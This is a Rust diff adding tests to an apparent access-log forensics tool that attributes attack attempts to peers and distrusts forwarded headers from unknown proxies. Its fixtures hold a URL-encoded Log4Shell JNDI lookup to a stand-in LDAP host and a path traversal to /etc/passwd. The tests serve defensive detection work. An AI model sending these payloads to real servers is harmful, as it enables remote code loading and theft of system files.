@@ -18,8 +18,13 @@ fn packed(path: &Path, text: &str) {
 }
 
 fn asked(folder: &Path, peer: &str, bytes_max: u64) -> LogEvidence {
+    asked_behind(folder, peer, bytes_max, None)
+}
+
+fn asked_behind(folder: &Path, peer: &str, bytes_max: u64, proxy: Option<&str>) -> LogEvidence {
     let log = Log { path: "/access.log".into(), root: folder.into(), how: How::Layout, pattern: None };
-    let is_proxy = |_| false;
+    let proxy: Option<IpAddr> = proxy.map(|proxy| proxy.parse().unwrap());
+    let is_proxy = |peer| Some(peer) == proxy;
     let clock = Clock::at("2026-06-15T12:00:00Z".parse().unwrap());
     let options = Options { format: None, clock, pack: attempt::pack(), is_proxy: &is_proxy };
     let query = Query { peer: peer.parse().unwrap(), since: None, bytes_max, is_over: &|| false };
@@ -56,4 +61,43 @@ fn every_way_to_write_an_address_is_known() {
         all.iter().chain(&["2001:db8::9:1", "2001:db8::99", "12001:db8::9"]).map(|peer| line(peer, attack)).collect();
     fs::write(folder.path().join("access.log"), text).unwrap();
     assert_eq!(asked(folder.path(), "2001:db8::9", 1 << 30).lines, 4);
+}
+
+#[test]
+fn what_would_have_the_server_call_the_peer_is_found_whoever_sent_it() {
+    let folder = tempfile::tempdir().unwrap();
+    let encoded = "/?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D";
+    fs::write(
+        folder.path().join("access.log"),
+        line("198.51.100.7", encoded) + &line("198.51.100.8", "/?to=203.0.113.9"),
+    )
+    .unwrap();
+    let found = asked(folder.path(), "203.0.113.9", 1 << 30);
+    let jndi: Vec<&Attempt> = found.attempts.iter().filter(|one| one.family == "jndi").collect();
+    assert_eq!((jndi.len(), jndi[0].line, jndi[0].remote), (1, 1, "198.51.100.7".parse().ok()), "{found:#?}");
+    assert!(jndi[0].reasons.iter().any(|reason| reason == "what was sent names 203.0.113.9"), "{:?}", jndi[0].reasons);
+    assert!(found.attempts.iter().all(|one| one.line == 1), "a mere mention is no attempt: {found:#?}");
+}
+
+/// Only a proxy that is known speaks for others; who writes another's address into a header tells nothing of him.
+#[test]
+fn headers_count_from_proxies_only_and_others_are_said_to_be_no_proof() {
+    let folder = tempfile::tempdir().unwrap();
+    let attack = "/a?f=../../../etc/passwd";
+    let forwarded = line("198.51.100.7", attack).replace("\"curl/8\"", "\"curl/8\" \"203.0.113.9\"");
+    fs::write(folder.path().join("access.log"), forwarded).unwrap();
+    let spoofed = asked(folder.path(), "203.0.113.9", 1 << 30);
+    assert!(spoofed.verdict.is_none() && !spoofed.attempts.is_empty(), "{spoofed:#?}");
+    let reasons = &spoofed.attempts[0].reasons;
+    assert!(
+        reasons.iter().any(|reason| reason.contains("sent by 198.51.100.7, which is no known proxy")),
+        "{reasons:?}"
+    );
+    let believed = asked_behind(folder.path(), "203.0.113.9", 1 << 30, Some("198.51.100.7"));
+    assert_eq!(believed.verdict, Some(Verdict::Attempted));
+    assert_eq!(believed.attempts[0].remote, "203.0.113.9".parse().ok());
+    assert!(
+        asked_behind(folder.path(), "198.51.100.7", 1 << 30, Some("198.51.100.7")).verdict.is_none(),
+        "the proxy did nothing"
+    );
 }
